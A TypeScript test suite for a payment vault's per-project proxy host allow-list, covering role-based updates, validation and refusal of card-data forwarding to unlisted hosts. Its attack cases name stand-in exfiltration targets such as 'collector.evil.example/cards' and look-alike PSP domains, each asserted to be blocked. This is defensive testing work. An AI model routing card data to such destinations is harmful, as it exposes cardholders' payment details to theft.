// A project's destination allow-list (`allowed_proxy_hosts`, issue 10): set with PUT /api/projects/{id}
// (owner/admin, audited), shown by GET /api/projects and GET /api/projects/{id}; POST /proxy/transaction, the
// checkout's http processor and merchant create/update refuse any other host before anything connects
// (400 `proxy_host_not_allowed`, `Invalid proxy URL: <host> is not in this project's allowed_proxy_hosts`).
// Issue 21: a production project without a list reaches no host (the proxy, merchant saves, checkout charges);
// a test project without one reaches any allowed host unless PROXY_REQUIRE_ALLOW_LIST=true; and
// PROXY_ALLOWED_PRIVATE_HOSTS opens a private host to a production project only when its own list names it.
// Loopback only: the PSP is https://localhost:PORT.
import { forgetProject } from '../../lib/api-keys/api-key-cache';
import { describe, expect, it, beforeAll } from 'vitest';
import { createApplication } from '../../lib/applications/create-application';
import { createProject } from '../../lib/projects/create-project';
import { chargeWithProcessor } from '../../lib/checkout/processors/charge';
import { PROCESSOR_ERROR_MESSAGE } from '../../lib/checkout/processors/results';
import { ZProcessorConfigSchema, type TProcessorConfig } from '../../lib/merchants/processor-schemas';
import { Prisma } from '../../lib/db/generated/client';
import { loginAs, seedStranger, type Stranger } from '../helpers/accounts';
import { createSession, customer, makeMerchant, type TestMerchant } from '../helpers/checkout';
import { useTestPsp, useVaultWithPsp } from '../helpers/psp-test-kit';
import type { ApiResponse, CallOptions, TestVault } from '../helpers/test-vault';
import { seedUsers, type Role, type TestUsers } from '../helpers/users';

const PAN = '4242424242424242';
const CVV = '7391';
const PSP_SECRET = 'sk_test_allow_list_secret_9f3a';

const psp = useTestPsp();
const useVault = (env?: Record<string, string>) => useVaultWithPsp(() => psp, env);
const pspHost = () => `localhost:${psp.port}`;

type Project = { id: string; accountId: string; key: string; pubKey?: string };

/** A fresh project of the test account (so each test owns its list), with a tokenizing key. */
async function freshProject(vault: TestVault, environment: 'test' | 'production' = 'test', allowedProxyHosts?: string[] | null): Promise<Project> {
  const { accountId } = await vault.runtime.db.prisma.project.findUniqueOrThrow({ where: { id: vault.tenants.test.projectId }, select: { accountId: true } });
  const project = await createProject(vault.runtime, { accountId, name: `Allow-list ${environment}`, environment });
  const app = await createApplication(vault.runtime, { projectId: project.id, environment, name: 'proxy app', permissions: { tokenization: true, provisioning: false } });
  if (allowedProxyHosts !== undefined) await setList(vault, project.id, allowedProxyHosts);
  return { id: project.id, accountId, key: app.apiKey, pubKey: project.pubKey };
}

/** Sets a project's list as updateProject does on this node: written, and the project's cached keys evicted. */
async function setList(vault: TestVault, projectId: string, list: string[] | null) {
  await vault.runtime.db.prisma.project.update({ where: { id: projectId }, data: { allowedProxyHosts: list ?? Prisma.DbNull } });
  forgetProject(projectId);
}

async function tokenize(vault: TestVault, project: Project): Promise<{ token: string; cvc_session_id: string }> {
  const response = await vault.call('POST', '/tokenize', {
    key: project.key,
    pubKey: project.pubKey,
    json: { type: 'card', data: { cardNumber: PAN, expirationMonth: '12', expirationYear: '2030', cvv: CVV } },
  });
  expect(response.status, response.text).toBe(201);
  return response.json;
}

const proxy = (vault: TestVault, project: Project, json: Record<string, unknown>, options: CallOptions = {}) =>
  vault.call('POST', '/proxy/transaction', { key: project.key, json, ...options });

const notListed = (host: string) => `Invalid proxy URL: ${host} is not in this project's allowed_proxy_hosts`;

function expectRefused(response: ApiResponse, host = 'localhost') {
  expect(response.status, response.text).toBe(400);
  expect(response.json).toEqual({
    success: false,
    error: { code: 'proxy_host_not_allowed', message: notListed(host) },
    request_id: response.headers.get('x-request-id'),
  });
}

const auditOf = (vault: TestVault, response: ApiResponse) =>
  vault.runtime.db.prisma.auditLog.findFirstOrThrow({ where: { requestId: response.headers.get('x-request-id')! } });

describe('PUT/GET /api/projects: allowed_proxy_hosts', () => {
  const vault = useVault();
  let users: TestUsers;
  let stranger: Stranger;
  const tokens = {} as Record<Role, string>;
  beforeAll(async () => {
    users = await seedUsers(vault(), 'allow-list');
    for (const role of ['owner', 'admin', 'developer', 'viewer'] as const) tokens[role] = await loginAs(vault(), users[role].email);
    stranger = await seedStranger(vault());
  });
  const as = (who: Role | 'stranger' | null, method: string, path: string, json?: unknown) =>
    vault().call(method, path, { key: null, json, headers: who ? { authorization: `Bearer ${who === 'stranger' ? stranger.token : tokens[who]}` } : {} });

  describe('happy', () => {
    it('is null (any public host) by default, in the list and the details', async () => {
      const list = await as('viewer', 'GET', '/api/projects');
      expect(list.status).toBe(200);
      // The seeded production project lists the local PSP (tests/helpers/psp-test-kit.ts); the others have no list.
      for (const project of list.json.data) if (project.id !== vault().tenants.production.projectId) expect(project.allowed_proxy_hosts).toBeNull();
      const one = await as('viewer', 'GET', `/api/projects/${vault().tenants.test.projectId}`);
      expect(one.json.data.allowed_proxy_hosts).toBeNull();
    });

    it.each(['owner', 'admin'] as const)('%s sets it (stored normalised, once each), every reader sees it, it is audited; null clears it', async (role) => {
      const project = await freshProject(vault());
      const response = await as(role, 'PUT', `/api/projects/${project.id}`, {
        allowed_proxy_hosts: ['PSP.Example.com.', 'psp.example.com:443', '*.Cdn.Example', `LOCALHOST:${psp.port}`, '[::1]:8443'],
      });
      expect(response.status, response.text).toBe(200);
      const expected = ['psp.example.com', '*.cdn.example', pspHost(), '[::1]:8443'];
      expect(response.json.data).toMatchObject({ id: project.id, name: 'Allow-list test', allowed_proxy_hosts: expected });
      expect(await auditOf(vault(), response)).toMatchObject({ action: 'project.update', outcome: 'success', statusCode: 200, projectId: project.id, userId: users[role].id });
      for (const reader of ['developer', 'viewer'] as const) {
        expect((await as(reader, 'GET', `/api/projects/${project.id}`)).json.data.allowed_proxy_hosts).toEqual(expected);
        const listed = (await as(reader, 'GET', '/api/projects')).json.data.find((p: { id: string }) => p.id === project.id);
        expect(listed.allowed_proxy_hosts).toEqual(expected);
      }
      const cleared = await as(role, 'PUT', `/api/projects/${project.id}`, { allowed_proxy_hosts: null });
      expect(cleared.status).toBe(200);
      expect(cleared.json.data.allowed_proxy_hosts).toBeNull();
      expect((await as('viewer', 'GET', `/api/projects/${project.id}`)).json.data.allowed_proxy_hosts).toBeNull();
      expect((await vault().runtime.db.prisma.project.findUniqueOrThrow({ where: { id: project.id } })).allowedProxyHosts).toBeNull();
    });

    it('an empty list is kept (no host at all), and a rename leaves the list as it is', async () => {
      const project = await freshProject(vault());
      expect((await as('owner', 'PUT', `/api/projects/${project.id}`, { allowed_proxy_hosts: [] })).json.data.allowed_proxy_hosts).toEqual([]);
      const renamed = await as('owner', 'PUT', `/api/projects/${project.id}`, { name: 'Renamed' });
      expect(renamed.json.data).toMatchObject({ name: 'Renamed', allowed_proxy_hosts: [] });
    });
  });

  describe('error', () => {
    it.each([
      [['https://psp.example.com/'], 'allowed_proxy_hosts.0'],
      [['ok.example', 'psp.example.com/charge'], 'allowed_proxy_hosts.1'],
      [['user@psp.example.com'], 'allowed_proxy_hosts.0'],
      [['*.com'], 'allowed_proxy_hosts.0'],
      [['*.*.example.com'], 'allowed_proxy_hosts.0'],
      [['a.*.example.com'], 'allowed_proxy_hosts.0'],
      [['psp.example.com:99999'], 'allowed_proxy_hosts.0'],
      [["psp'.example.com"], 'allowed_proxy_hosts.0'],
      [[''], 'allowed_proxy_hosts.0'],
      [[42], 'allowed_proxy_hosts.0'],
      ['psp.example.com', 'allowed_proxy_hosts'],
      [{ 0: 'psp.example.com' }, 'allowed_proxy_hosts'],
      [Array.from({ length: 101 }, (_, i) => `h${i}.example`), 'allowed_proxy_hosts'],
    ])('%j → 400 naming %s, nothing stored', async (list, path) => {
      const project = await freshProject(vault(), 'test', ['kept.example']);
      const response = await as('owner', 'PUT', `/api/projects/${project.id}`, { allowed_proxy_hosts: list });
      expect(response.status).toBe(400);
      expect(response.json.error.code).toBe('validation_error');
      expect(response.json.error.fields.map((field: { path: string }) => field.path)).toEqual([path]);
      expect((await as('viewer', 'GET', `/api/projects/${project.id}`)).json.data.allowed_proxy_hosts).toEqual(['kept.example']);
    });
  });

  describe('security', () => {
    it.each(['developer', 'viewer'] as const)('%s cannot set it: 403, audited as a failure, nothing changes', async (role) => {
      const project = await freshProject(vault(), 'test', [pspHost()]);
      const response = await as(role, 'PUT', `/api/projects/${project.id}`, { allowed_proxy_hosts: null });
      expect(response.status).toBe(403);
      expect(response.json.error).toEqual({ code: 'insufficient_permissions', message: 'Insufficient permissions' });
      expect(await auditOf(vault(), response)).toMatchObject({ action: 'project.update', outcome: 'failure', statusCode: 403, userId: users[role].id });
      expect((await as('viewer', 'GET', `/api/projects/${project.id}`)).json.data.allowed_proxy_hosts).toEqual([pspHost()]);
    });

    it("another account cannot read or clear a project's list (404), nor without a session (401)", async () => {
      const project = await freshProject(vault(), 'test', [pspHost()]);
      expect((await as('stranger', 'PUT', `/api/projects/${project.id}`, { allowed_proxy_hosts: null })).status).toBe(404);
      expect((await as('stranger', 'GET', `/api/projects/${project.id}`)).status).toBe(404);
      expect((await as(null, 'PUT', `/api/projects/${project.id}`, { allowed_proxy_hosts: null })).status).toBe(401);
      expect((await vault().call('PUT', `/api/projects/${project.id}`, { key: project.key, json: { allowed_proxy_hosts: null } })).status).toBe(401);
      expect((await as('viewer', 'GET', `/api/projects/${project.id}`)).json.data.allowed_proxy_hosts).toEqual([pspHost()]);
    });
  });
});

describe('POST /proxy/transaction with an allow-list', () => {
  const vault = useVault();

  describe('happy', () => {
    it('a listed host:port is reached; a null list reaches any (allowed) host as before', async () => {
      for (const list of [[pspHost()], ['other.example', pspHost()], null]) {
        const project = await freshProject(vault(), 'test', list);
        const { token } = await tokenize(vault(), project);
        psp.received.length = 0;
        const response = await proxy(vault(), project, { token, proxy_url: psp.url('/v1/charges'), request_data: { n: '${cardNumber}' } });
        expect(response.status, response.text).toBe(200);
        expect(psp.received).toHaveLength(1);
      }
    });

    it('a list changed on this node applies to the very next call (the project\'s cached keys are evicted)', async () => {
      const project = await freshProject(vault());
      const { token } = await tokenize(vault(), project);
      const body = { token, proxy_url: psp.url('/v1/charges'), request_data: { n: '${cardNumber}' } };
      expect((await proxy(vault(), project, body)).status).toBe(200);
      await setList(vault(), project.id, ['psp.example.com']);
      expectRefused(await proxy(vault(), project, body));
      await setList(vault(), project.id, null);
      expect((await proxy(vault(), project, body)).status).toBe(200);
    });
  });

  describe('attack: card data to a host the list does not name', () => {
    it.each([
      ['an allow-listed private host that is not on the project list', () => psp.url('/v1/charges'), ['psp.example.com']],
      ['the right host on another port (entry without port = 443)', () => psp.url('/v1/charges'), ['localhost']],
      ['a look-alike suffix', () => 'https://psp.example.com.evil.example/charge', ['psp.example.com']],
      ['a look-alike prefix', () => 'https://evilpsp.example.com/charge', ['psp.example.com']],
      ['two labels under a one-label wildcard', () => 'https://a.b.cdn.example/charge', ['*.cdn.example']],
      ['the bare domain of a wildcard', () => 'https://cdn.example/charge', ['*.cdn.example']],
      ['any host, with an empty list', () => psp.url('/v1/charges'), []],
    ])('%s → 400 proxy_host_not_allowed, nothing sent, audited', async (_name, target, list) => {
      const project = await freshProject(vault(), 'test', list);
      const { token, cvc_session_id } = await tokenize(vault(), project);
      psp.received.length = 0;
      const response = await proxy(vault(), project, { token, cvc_session_id, proxy_url: target(), request_data: { n: '${cardNumber}', c: '${cvv}' } });
      expectRefused(response, new URL(target()).hostname);
      expect(psp.received).toHaveLength(0);
      expect(response.text).not.toContain(PAN);
      expect(await auditOf(vault(), response)).toMatchObject({ action: 'proxy.transaction', outcome: 'failure', statusCode: 400, projectId: project.id });
    });

    it('refused before the token is read or a production CVC session is used: the same session then works on a listed host', async () => {
      const project = await freshProject(vault(), 'production', ['psp.example.com']);
      const { token, cvc_session_id } = await tokenize(vault(), project);
      const body = (url: string) => ({ token, cvc_session_id, proxy_url: url, request_data: { n: '${cardNumber}', c: '${cvv}' } });
      psp.received.length = 0;
      const refused = await proxy(vault(), project, body(psp.url('/steal')));
      expectRefused(refused);
      expect((await auditOf(vault(), refused)).tokenId).toBeNull();
      expect(psp.received).toHaveLength(0);
      await setList(vault(), project.id, [pspHost()]);
      const allowed = await proxy(vault(), project, body(psp.url('/v1/charges')));
      expect(allowed.status, allowed.text).toBe(200);
      expect(psp.received[0]!.body.toString('utf8')).toBe(JSON.stringify({ n: PAN, c: CVV }));
    });

    it('form and XML calls (X-Proxy-URL, query) are held to the same list', async () => {
      const project = await freshProject(vault(), 'test', ['psp.example.com']);
      const { token } = await tokenize(vault(), project);
      psp.received.length = 0;
      const form = await vault().call('POST', '/proxy/transaction', {
        key: project.key,
        body: 'card=%24%7BcardNumber%7D',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-token': token, 'x-proxy-url': psp.url('/form') },
      });
      expectRefused(form);
      const query = new URLSearchParams({ token, proxy_url: psp.url('/xml') });
      const xml = await vault().call('POST', `/proxy/transaction?${query}`, {
        key: project.key,
        body: '<card>${cardNumber}</card>',
        headers: { 'content-type': 'application/xml' },
      });
      expectRefused(xml);
      expect(psp.received).toHaveLength(0);
    });

    it('a project list does not widen another project: its key still reaches nothing beyond its own list', async () => {
      const open = await freshProject(vault(), 'test', [pspHost()]);
      const closed = await freshProject(vault(), 'test', ['psp.example.com']);
      const { token } = await tokenize(vault(), closed);
      expectRefused(await proxy(vault(), closed, { token, proxy_url: psp.url('/x'), request_data: { n: '${cardNumber}' } }));
      // Another project's token through the open project's key is still that project's 404.
      const other = await proxy(vault(), open, { token, proxy_url: psp.url('/x'), request_data: { n: '${cardNumber}' } });
      expect(other.status).toBe(404);
      expect(psp.received).toHaveLength(0);
    });
  });
});

describe('PROXY_ALLOWED_PRIVATE_HOSTS still applies: a host must pass both', () => {
  const vault = useVault({ PROXY_ALLOWED_PRIVATE_HOSTS: '' });

  it('a project that lists localhost:PORT still cannot reach it when the operator has not allow-listed the private host', async () => {
    const project = await freshProject(vault(), 'test', [pspHost()]);
    const { token } = await tokenize(vault(), project);
    const response = await proxy(vault(), project, { token, proxy_url: psp.url('/v1/charges'), request_data: { n: '${cardNumber}' } });
    expect(response.status).toBe(400);
    expect(response.json.error).toEqual({ code: 'invalid_proxy_url', message: 'Invalid proxy URL' });
    expect(psp.received).toHaveLength(0);
  });
});

describe('a production project without allowed_proxy_hosts sends card data nowhere (issue 21)', () => {
  const vault = useVault();
  const api = async (method: string, path: string, accountId: string, json?: unknown) =>
    vault().call(method, path, { key: null, json, headers: { authorization: `Bearer ${await ownerToken(vault(), accountId)}` } });

  it('POST /proxy/transaction: 400 proxy_host_not_allowed naming the host without its port, nothing reaches the PSP; a listed host is reached', async () => {
    const live = await freshProject(vault(), 'production');
    const { token, cvc_session_id } = await tokenize(vault(), live);
    const body = { token, cvc_session_id, proxy_url: psp.url('/v1/charges?x=1'), request_data: { n: '${cardNumber}', c: '${cvv}' } };
    const refused = await proxy(vault(), live, body);
    expectRefused(refused);
    expect(refused.text).not.toContain(String(psp.port));
    expect(refused.text).not.toContain(PAN);
    expect(psp.received).toHaveLength(0);
    expect(await auditOf(vault(), refused)).toMatchObject({ action: 'proxy.transaction', outcome: 'failure', statusCode: 400, projectId: live.id, tokenId: null });
    await setList(vault(), live.id, [pspHost()]);
    const allowed = await proxy(vault(), live, body);
    expect(allowed.status, allowed.text).toBe(200);
    expect(psp.received).toHaveLength(1);
  });

  it('the seeded production tenant is refused too, once its list is cleared (its key, its pub key)', async () => {
    const tenant = vault().tenants.production;
    await setList(vault(), tenant.projectId, null);
    const tokenized = await vault().call('POST', '/tokenize', {
      key: tenant.keys.full,
      pubKey: tenant.pubKey,
      json: { type: 'card', data: { cardNumber: PAN, expirationMonth: '12', expirationYear: '2030' } },
    });
    expect(tokenized.status, tokenized.text).toBe(201);
    const refused = await vault().call('POST', '/proxy/transaction', { key: tenant.keys.full, json: { token: tokenized.json.token, proxy_url: psp.url('/v1/charges'), request_data: { n: '${cardNumber}' } } });
    expectRefused(refused);
    expect(psp.received).toHaveLength(0);
  });

  it('merchant create and update: 400 proxy_host_not_allowed with the same message, naming processor.url; nothing saved', async () => {
    const live = await freshProject(vault(), 'production');
    const before = await vault().runtime.db.prisma.merchant.count({ where: { projectId: live.id } });
    const refused = await api('POST', '/api/merchants', live.accountId, { name: 'Live shop', project_id: live.id, processor: httpProcessor(psp.url('/v1/charges')) });
    expect(refused.status, refused.text).toBe(400);
    expect(refused.json).toEqual({
      success: false,
      error: {
        code: 'proxy_host_not_allowed',
        message: notListed('localhost'),
        fields: [{ path: 'processor.url', message: 'the project lists no host in allowed_proxy_hosts, so its card data may go nowhere yet' }],
      },
      request_id: refused.headers.get('x-request-id'),
    });
    expect(await vault().runtime.db.prisma.merchant.count({ where: { projectId: live.id } })).toBe(before);
    await setList(vault(), live.id, ['psp.example.com']);
    const created = await api('POST', '/api/merchants', live.accountId, { name: 'Live shop', project_id: live.id, processor: httpProcessor('https://psp.example.com/v1/charges') });
    expect(created.status, created.text).toBe(201);
    await setList(vault(), live.id, null);
    const moved = await api('PUT', `/api/merchants/${created.json.data.id}`, live.accountId, { processor: httpProcessor('https://PSP.example.com:8443/v2/charges') });
    expect(moved.status).toBe(400);
    expect(moved.json.error).toMatchObject({ code: 'proxy_host_not_allowed', message: notListed('psp.example.com'), fields: [{ path: 'processor.url' }] });
    const read = await api('GET', `/api/merchants/${created.json.data.id}`, live.accountId);
    expect(read.json.data.processor.url).toBe('https://psp.example.com/v1/charges');
  });

  it('checkout charge: a production merchant saved before its list was cleared answers 400 proxy_host_not_allowed; no token, no attempt, nothing sent', async () => {
    const live = await freshProject(vault(), 'production', [pspHost()]);
    const merchant = await makeMerchant(vault(), { projectId: live.id, processor: ZProcessorConfigSchema.parse(httpProcessor(psp.url('/v1/charges'))) });
    await setList(vault(), live.id, null);
    const sessionId = await openSessionWith(vault(), merchant, live.key);
    const tokensBefore = await vault().runtime.db.prisma.token.count({ where: { projectId: live.id } });
    const paid = await customer(vault(), sessionId, 'pay');
    expect(paid.status, paid.text).toBe(400);
    expect(paid.json.error).toEqual({ code: 'proxy_host_not_allowed', message: notListed('localhost') });
    expect(psp.received).toHaveLength(0);
    expect(await vault().runtime.db.prisma.token.count({ where: { projectId: live.id } })).toBe(tokensBefore);
    expect((await vault().runtime.db.prisma.checkoutSession.findUniqueOrThrow({ where: { id: sessionId } })).attempts).toBe(0);
    // Listed again: the same session pays.
    await setList(vault(), live.id, [pspHost()]);
    psp.reply(() => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: 'ch_live' }) }));
    const retried = await customer(vault(), sessionId, 'pay');
    expect(retried.status, retried.text).toBe(200);
    expect(psp.received).toHaveLength(1);
  });
});

describe('a private host through another project (PROXY_ALLOWED_PRIVATE_HOSTS=localhost)', () => {
  const vault = useVault({ PROXY_ALLOWED_PRIVATE_HOSTS: 'localhost' });

  it('project A lists the private host and reaches it; production project B, unlisted or listing other hosts, is refused and nothing arrives', async () => {
    const a = await freshProject(vault(), 'production', [pspHost()]);
    const cardA = await tokenize(vault(), a);
    const reached = await proxy(vault(), a, { token: cardA.token, proxy_url: psp.url('/a'), request_data: { n: '${cardNumber}' } });
    expect(reached.status, reached.text).toBe(200);
    expect(psp.received).toHaveLength(1);

    for (const list of [null, ['psp.example.com', '*.cdn.example']]) {
      const b = await freshProject(vault(), 'production', list);
      const cardB = await tokenize(vault(), b);
      psp.received.length = 0;
      expectRefused(await proxy(vault(), b, { token: cardB.token, proxy_url: psp.url('/b'), request_data: { n: '${cardNumber}' } }));
      expect(psp.received).toHaveLength(0);
    }
  });

  it('a test project without a list keeps reaching the private host (local PSP sandboxes)', async () => {
    const sandbox = await freshProject(vault(), 'test');
    const { token } = await tokenize(vault(), sandbox);
    expect((await proxy(vault(), sandbox, { token, proxy_url: psp.url('/sandbox'), request_data: { n: '${cardNumber}' } })).status).toBe(200);
    expect(psp.received).toHaveLength(1);
  });
});

describe('PROXY_REQUIRE_ALLOW_LIST', () => {
  describe('true: the rule applies to test projects too', () => {
    const vault = useVault({ PROXY_REQUIRE_ALLOW_LIST: 'true' });

    it('a test or production project without a list reaches no host; with one it reaches the listed host', async () => {
      for (const environment of ['test', 'production'] as const) {
        const project = await freshProject(vault(), environment);
        const { token } = await tokenize(vault(), project);
        const body = { token, proxy_url: psp.url('/v1/charges'), request_data: { n: '${cardNumber}' } };
        psp.received.length = 0;
        expectRefused(await proxy(vault(), project, body));
        expect(psp.received).toHaveLength(0);
        await setList(vault(), project.id, [pspHost()]);
        expect((await proxy(vault(), project, body)).status).toBe(200);
        expect(psp.received).toHaveLength(1);
      }
    });

    it('a test merchant with an http processor needs a list too (400 naming processor.url)', async () => {
      const project = await freshProject(vault(), 'test');
      const owner = await ownerToken(vault(), project.accountId);
      const create = () =>
        vault().call('POST', '/api/merchants', { key: null, headers: { authorization: `Bearer ${owner}` }, json: { name: 'Test shop', project_id: project.id, processor: httpProcessor(psp.url('/v1/charges')) } });
      const refused = await create();
      expect(refused.status).toBe(400);
      expect(refused.json.error).toMatchObject({ code: 'proxy_host_not_allowed', message: notListed('localhost'), fields: [{ path: 'processor.url' }] });
      await setList(vault(), project.id, [pspHost()]);
      expect((await create()).status).toBe(201);
    });
  });

  describe('false (default)', () => {
    const vault = useVault();

    it('a test project without a list reaches any allowed host', async () => {
      const project = await freshProject(vault(), 'test');
      const { token } = await tokenize(vault(), project);
      expect((await proxy(vault(), project, { token, proxy_url: psp.url('/v1/charges'), request_data: { n: '${cardNumber}' } })).status).toBe(200);
    });
  });
});

const httpProcessor = (url: string, headers: Record<string, string> = { Authorization: `Bearer ${PSP_SECRET}` }) => ({
  type: 'http' as const,
  url,
  headers,
  body: { card: '${cardNumber}', cvc: '${cvv}', amount: '${amountMinor}' },
  transaction_id_path: 'id',
});

/** A signed-in owner of `accountId` (created on first use). */
const owners = new Map<string, string>();
async function ownerToken(vault: TestVault, accountId: string): Promise<string> {
  const known = owners.get(`${vault.url}/${accountId}`);
  if (known) return known;
  const { hashPassword } = await import('../../lib/auth/passwords');
  const { TEST_PASSWORD } = await import('../helpers/users');
  const email = `allow-owner-${Math.random().toString(36).slice(2, 8)}@example.com`;
  await vault.runtime.db.prisma.user.create({ data: { accountId, email, passwordHash: await hashPassword(TEST_PASSWORD), role: 'owner', name: 'owner' } });
  const token = await loginAs(vault, email);
  owners.set(`${vault.url}/${accountId}`, token);
  return token;
}

/** A checkout session of `merchant`, created with a vault key of its project. */
async function openSessionWith(vault: TestVault, merchant: TestMerchant, key: string): Promise<string> {
  const response = await createSession(vault, merchant, {}, { key });
  expect(response.status, response.text).toBe(201);
  return response.json.sessionId;
}

describe('merchants and the checkout http processor', () => {
  const vault = useVault();
  const api = async (method: string, path: string, accountId: string, json?: unknown) =>
    vault().call(method, path, { key: null, json, headers: { authorization: `Bearer ${await ownerToken(vault(), accountId)}` } });

  it('happy: a merchant whose URL is listed is created and charges', async () => {
    const project = await freshProject(vault(), 'test', [pspHost()]);
    const created = await api('POST', '/api/merchants', project.accountId, { name: 'Listed shop', project_id: project.id, processor: httpProcessor(psp.url('/v1/charges')) });
    expect(created.status, created.text).toBe(201);
    psp.reply(() => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: 'ch_1' }) }));
    const merchant = { id: created.json.data.id, name: 'Listed shop', projectId: project.id, serviceApiKey: created.json.data.service_api_key };
    const sessionId = await openSessionWith(vault(), merchant, project.key);
    const paid = await customer(vault(), sessionId, 'pay');
    expect(paid.status, paid.text).toBe(200);
    expect(psp.received).toHaveLength(1);
  });

  it('create or update with a URL the list does not name → 400 proxy_host_not_allowed naming processor.url; nothing saved', async () => {
    const project = await freshProject(vault(), 'test', ['psp.example.com']);
    const before = await vault().runtime.db.prisma.merchant.count({ where: { projectId: project.id } });
    const refused = await api('POST', '/api/merchants', project.accountId, { name: 'Exfil shop', project_id: project.id, processor: httpProcessor('https://collector.evil.example/cards') });
    expect(refused.status).toBe(400);
    expect(refused.json).toEqual({
      success: false,
      error: { code: 'proxy_host_not_allowed', message: notListed('collector.evil.example'), fields: [{ path: 'processor.url', message: "the URL's host (and port) is not in the project's allowed_proxy_hosts" }] },
      request_id: refused.headers.get('x-request-id'),
    });
    expect(await vault().runtime.db.prisma.merchant.count({ where: { projectId: project.id } })).toBe(before);
    expect(await auditOf(vault(), refused)).toMatchObject({ action: 'merchant.create', outcome: 'failure', statusCode: 400 });

    const ok = await api('POST', '/api/merchants', project.accountId, { name: 'Good shop', project_id: project.id, processor: httpProcessor('https://psp.example.com/v1/charges') });
    expect(ok.status).toBe(201);
    const moved = await api('PUT', `/api/merchants/${ok.json.data.id}`, project.accountId, { processor: httpProcessor('https://collector.evil.example/cards') });
    expect(moved.status).toBe(400);
    expect(moved.json.error).toMatchObject({ code: 'proxy_host_not_allowed', fields: [{ path: 'processor.url' }] });
    const read = await api('GET', `/api/merchants/${ok.json.data.id}`, project.accountId);
    expect(read.json.data.processor.url).toBe('https://psp.example.com/v1/charges');
    // The sandbox and a rename are not about destinations.
    expect((await api('PUT', `/api/merchants/${ok.json.data.id}`, project.accountId, { name: 'Renamed' })).status).toBe(200);
    expect((await api('POST', '/api/merchants', project.accountId, { name: 'Sandbox', project_id: project.id, processor: { type: 'sandbox' } })).status).toBe(201);
  });

  it('attack: a list tightened after the merchant was saved stops the Pay before anything connects (400 proxy_host_not_allowed)', async () => {
    const project = await freshProject(vault(), 'test', [pspHost()]);
    const merchant = await makeMerchant(vault(), { projectId: project.id, processor: ZProcessorConfigSchema.parse(httpProcessor(psp.url('/v1/charges'))) });
    await setList(vault(), project.id, ['psp.example.com']);
    const sessionId = await openSessionWith(vault(), merchant, project.key);
    psp.received.length = 0;
    const paid = await customer(vault(), sessionId, 'pay');
    expect(paid.status).toBe(400);
    expect(paid.json.error).toEqual({ code: 'proxy_host_not_allowed', message: notListed('localhost') });
    expect(psp.received).toHaveLength(0);
  });

  it('chargeWithProcessor itself refuses: the list is read with the project at every charge', async () => {
    const project = await freshProject(vault(), 'test', ['psp.example.com']);
    const card = await tokenize(vault(), project);
    psp.received.length = 0;
    const processor: TProcessorConfig = ZProcessorConfigSchema.parse(httpProcessor(psp.url('/v1/charges')));
    const result = await chargeWithProcessor(vault().runtime, {
      processor,
      projectId: project.id,
      testMode: true,
      token: card.token,
      cvcSessionId: card.cvc_session_id,
      amount: '10.50',
      amountMinor: 1050n,
      currency: 'EUR',
      sessionId: 'cs_allowlist',
      merchantId: '6b0d1c52-8f0e-4c3e-9a57-2f4f1e0b7d11',
      requestId: 'req_allow_list',
    });
    expect(result).toEqual({ outcome: 'failed', code: 'processor_error', message: PROCESSOR_ERROR_MESSAGE });
    expect(psp.received).toHaveLength(0);
  });
});
